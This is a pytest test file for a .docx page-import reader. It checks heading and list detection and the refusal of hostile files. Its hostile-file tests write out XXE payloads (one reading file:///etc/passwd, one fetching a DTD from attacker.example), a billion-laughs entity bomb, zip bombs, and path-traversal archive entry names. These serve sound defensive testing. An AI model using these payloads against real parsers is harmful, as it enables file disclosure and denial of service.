"""Pages as Word documents: their paragraphs, and hostile files."""

import tracemalloc
import zipfile
from pathlib import Path

import pytest
from hypothesis import given
from hypothesis import strategies as st

from conversations.folder.page_import.documents import read_document
from conversations.folder.page_import.paragraphs import Kind, PageError, Paragraph
from tests.conversations.folder.page_import.word import (
    DOCUMENT,
    LISTS,
    STRICT,
    archive,
    body,
    document,
    paragraph,
    xml,
)
from tests.cpu_time import at_most

BROKEN = ("This isn't a valid Word document.", "Open it in Word, and save it as .docx.")
TOO_LARGE = ("Unpacked, this is over 3 MB or too complex.", "Copy its text into a .txt file.")
TOO_LONG = (
    "This has over 100,000 characters or 1,000 paragraphs.",
    "Take only the page's text.",
)
NOTHING = ("There is no text in it.", "Choose another file, or paste the text.")
HERONS = paragraph("Herons nest here.")


def read(content: bytes) -> tuple[Paragraph, ...]:
    return read_document("page.docx", content)


def refusal(content: bytes) -> tuple[str, str]:
    with pytest.raises(PageError) as refused:
        read(content)
    return refused.value.problem, refused.value.fix


STYLES_XML = xml(
    "styles",
    '<w:style w:styleId="berschrift2"><w:name w:val="heading 2"/></w:style>'
    '<w:style w:styleId="Mine"><w:name w:val="Mine"/><w:basedOn w:val="berschrift2"/></w:style>'
    '<w:style w:styleId="Titel"><w:name w:val="Title"/></w:style>'
    '<w:style w:styleId="Liste"><w:name w:val="List Bullet"/>'
    '<w:pPr><w:numPr><w:numId w:val="2"/></w:numPr></w:pPr></w:style>'
    '<w:style w:styleId="A"><w:basedOn w:val="B"/></w:style>'
    '<w:style w:styleId="B"><w:basedOn w:val="A"/></w:style>',
)
LISTS_XML = xml(
    "numbering",
    '<w:abstractNum w:abstractNumId="7"><w:lvl w:ilvl="0"><w:numFmt w:val="decimal"/></w:lvl>'
    '<w:lvl w:ilvl="1"><w:numFmt w:val="bullet"/></w:lvl></w:abstractNum>'
    '<w:abstractNum w:abstractNumId="8"><w:lvl w:ilvl="0"><w:numFmt w:val="bullet"/></w:lvl>'
    "</w:abstractNum>"
    '<w:num w:numId="1"><w:abstractNumId w:val="7"/></w:num>'
    '<w:num w:numId="2"><w:abstractNumId w:val="8"/></w:num>',
)


def item(list_: str, depth: str = "0") -> str:
    return f'<w:numPr><w:ilvl w:val="{depth}"/><w:numId w:val="{list_}"/></w:numPr>'


@pytest.mark.parametrize(
    ("written", "expected"),
    [
        (paragraph("Text"), Paragraph("Text")),
        (paragraph("Bold", run="<w:b/>"), Paragraph("Bold", Kind.HEADING)),
        (paragraph("Not", run='<w:b w:val="0"/>'), Paragraph("Not")),
        (paragraph("x" * 121, run="<w:b/>"), Paragraph("x" * 121)),
        (paragraph("Title", '<w:pStyle w:val="Titel"/>'), Paragraph("Title", Kind.HEADING, 1)),
        (
            paragraph("Why", '<w:pStyle w:val="berschrift2"/>'),
            Paragraph("Why", Kind.HEADING, 2),
        ),
        (paragraph("Based", '<w:pStyle w:val="Mine"/>'), Paragraph("Based", Kind.HEADING, 2)),
        (paragraph("Level", '<w:outlineLvl w:val="3"/>'), Paragraph("Level", Kind.HEADING, 4)),
        (paragraph("Body", '<w:outlineLvl w:val="9"/>'), Paragraph("Body")),
        (paragraph("Circle", '<w:pStyle w:val="A"/>'), Paragraph("Circle")),
        (paragraph("One", item("1")), Paragraph("One", Kind.ITEM, is_numbered=True)),
        (paragraph("Deep", item("1", "1")), Paragraph("Deep", Kind.ITEM)),
        (paragraph("Bullet", item("2")), Paragraph("Bullet", Kind.ITEM)),
        (paragraph("Unknown", item("9")), Paragraph("Unknown", Kind.ITEM)),
        (paragraph("Style", '<w:pStyle w:val="Liste"/>'), Paragraph("Style", Kind.ITEM)),
        (paragraph("None", f'<w:pStyle w:val="Liste"/>{item("0")}'), Paragraph("None")),
        (paragraph("A", '<w:outlineLvl w:val="²"/>'), Paragraph("A")),
    ],
)
def test_formats(written: str, expected: Paragraph) -> None:
    made = document(written, styles=STYLES_XML, lists=LISTS_XML)
    assert read(made) == (expected,)


def test_a_document_of_the_strict_format() -> None:
    made = archive({"word/document2.xml": body(HERONS, STRICT)}, zipfile.ZIP_STORED)
    assert read(made) == (Paragraph("Herons nest here."),)


def test_text_in_pieces_and_tables() -> None:
    pieces = (
        "<w:p><w:r><w:t>Herons</w:t><w:tab/><w:t>nest</w:t></w:r>"
        "<w:hyperlink><w:r><w:t> here &amp; there</w:t></w:r></w:hyperlink>"
        "<w:r><w:br/><w:t>since 1950</w:t></w:r></w:p>"
        f"<w:tbl><w:tr><w:tc>{paragraph('A cell')}</w:tc></w:tr></w:tbl><w:p/>"
    )
    texts = [each.text for each in read(document(pieces))]
    assert texts == ["Herons nest here & there", "since 1950", "A cell"]


def test_what_no_reader_sees_is_left_out() -> None:
    hidden = (
        "<w:p><w:r><w:t>Seen</w:t></w:r>"
        "<w:del><w:r><w:delText>deleted</w:delText></w:r></w:del>"
        "<w:moveFrom><w:r><w:t>moved</w:t></w:r></w:moveFrom>"
        "<w:r><w:rPr><w:vanish/></w:rPr><w:t>hidden</w:t></w:r>"
        "<w:r><w:instrText>HYPERLINK</w:instrText></w:r>"
        "<mc:AlternateContent><mc:Choice><w:r><w:t> text</w:t></w:r></mc:Choice>"
        "<mc:Fallback><w:r><w:t> twice</w:t></w:r></mc:Fallback></mc:AlternateContent></w:p>"
    )
    assert [each.text for each in read(document(hidden))] == ["Seen text"]


# --- hostile files ------------------------------------------------------------------------------


@pytest.mark.parametrize(
    "content",
    [
        b"",
        b"Herons nest here.",
        b"PK\x03\x04",
        archive({}),
        archive({"other.xml": body(HERONS)}),
        archive({"../word/document.xml": body(HERONS)}),
        archive({DOCUMENT: ""}),
        archive({DOCUMENT: "<w:p>"}),
        archive({DOCUMENT: body(HERONS)[:-20]}),
        archive({DOCUMENT: body(HERONS).replace("UTF-8", "no-such")}),
        archive({DOCUMENT: body(HERONS)}, zipfile.ZIP_BZIP2),
        archive({DOCUMENT: body(HERONS)}, zipfile.ZIP_LZMA),
        archive({DOCUMENT: body(HERONS), LISTS: "<broken"}),
    ],
)
def test_what_is_no_document_is_refused(content: bytes) -> None:
    assert refusal(content) == BROKEN


def test_an_old_or_protected_document_is_refused() -> None:
    assert refusal(b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + bytes(100)) == (
        "This is an old .doc, or it has a password.",
        "Save it as .docx without a password.",
    )
    protected = bytearray(document(HERONS))
    entry = protected.rindex(DOCUMENT.encode()) - 46
    protected[entry + 8] |= 1
    assert refusal(bytes(protected)) == (
        "This document has a password.",
        "Save it without a password.",
    )


@pytest.mark.parametrize("cut", [10, 40, 100, 200, -1, -10, -30, -60])
def test_a_truncated_document_is_refused(cut: int) -> None:
    assert refusal(document(HERONS)[:cut]) == BROKEN


@pytest.mark.parametrize(
    "declaration",
    [
        '<!DOCTYPE w [<!ENTITY a "aaaaaaaaaa"><!ENTITY b "&a;&a;&a;&a;&a;">]>',
        '<!DOCTYPE w [<!ENTITY a SYSTEM "file:///etc/passwd">]>',
        '<!DOCTYPE w SYSTEM "https://attacker.example/x.dtd">',
        "<!DOCTYPE w>",
    ],
)
def test_entities_are_refused(declaration: str) -> None:
    text = body(paragraph("&b;" if "ENTITY b" in declaration else "&a;"))
    assert refusal(archive({DOCUMENT: text.replace("?>", "?>" + declaration, 1)})) == BROKEN


def bomb() -> bytes:
    """Return 20 MB of paragraphs in a file of under 100 kB."""
    return archive({DOCUMENT: body(paragraph("") * (20_000_000 // len(paragraph(""))))})


def with_size(content: bytes, size: int) -> bytes:
    """Return an archive whose directory lies about the size of the document."""
    lying = bytearray(content)
    entry = lying.rindex(DOCUMENT.encode()) - 46
    lying[entry + 24 : entry + 28] = size.to_bytes(4, "little")
    return bytes(lying)


def test_a_zip_bomb_is_refused() -> None:
    content = bomb()
    assert len(content) < 100_000
    assert refusal(content) == TOO_LARGE


def test_a_zip_bomb_that_lies_about_its_size_is_refused() -> None:
    # The archive module reads no more than the size in the directory, and then finds no end.
    assert refusal(with_size(bomb(), 1_000)) == BROKEN


def test_many_files_are_refused() -> None:
    content = archive({f"media/{n}.png": b"" for n in range(2_001)}, zipfile.ZIP_STORED)
    assert refusal(content) == (
        "There are too many files in this document.",
        "Save it again in Word.",
    )


def test_nothing_is_unpacked(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.chdir(tmp_path)
    names = ("../outside.txt", "/outside.txt", "C:\\outside.txt", "word/../../outside.txt")
    content = archive({DOCUMENT: body(HERONS), **dict.fromkeys(names, b"x")})
    assert read(content) == (Paragraph("Herons nest here."),)
    assert [*tmp_path.iterdir()] == []
    assert not (tmp_path.parent / "outside.txt").exists()


def test_deep_nesting_is_refused() -> None:
    assert refusal(document("<w:p>" * 100_000)) == BROKEN
    assert refusal(document("<w:p>" * 300 + "</w:p>" * 300)) == BROKEN


def test_a_long_text_is_refused() -> None:
    assert refusal(document(paragraph("word " * 50_000))) == TOO_LONG
    assert refusal(document(HERONS * 1_001)) == TOO_LONG


@pytest.mark.parametrize(
    ("content", "expected"),
    [
        ("<w:p/>" * 200_000, TOO_LARGE),
        ("<w:p>" + "".join(f"<w:e{n}/>" for n in range(200_000)) + "</w:p>", TOO_LARGE),
        ("<w:p " + " ".join(f'a{n}=""' for n in range(250_000)) + "/>", NOTHING),
        (f'<w:p w:a="{"x" * 2_900_000}"/>', NOTHING),
        (paragraph("x" * 2_900_000), TOO_LONG),
        ("<!-- " + "x" * 2_900_000 + " -->", NOTHING),
    ],
)
def test_memory_is_flat_and_reading_is_quick(content: str, expected: tuple[str, str]) -> None:
    made = document(content)
    with at_most(500_000_000):
        assert refusal(made) == expected
    tracemalloc.start()
    assert refusal(made) == expected
    _, most = tracemalloc.get_traced_memory()
    tracemalloc.stop()
    assert most < 80_000_000


@given(st.data())
def test_a_damaged_document_never_fails_otherwise(data: st.DataObject) -> None:
    content = bytearray(document(HERONS, styles=STYLES_XML, lists=LISTS_XML))
    for _ in range(data.draw(st.integers(1, 4))):
        place = data.draw(st.integers(0, len(content) - 1))
        content[place] = data.draw(st.integers(0, 255))
    try:
        read(bytes(content))
    except PageError as error:
        assert error.problem
        assert error.fix
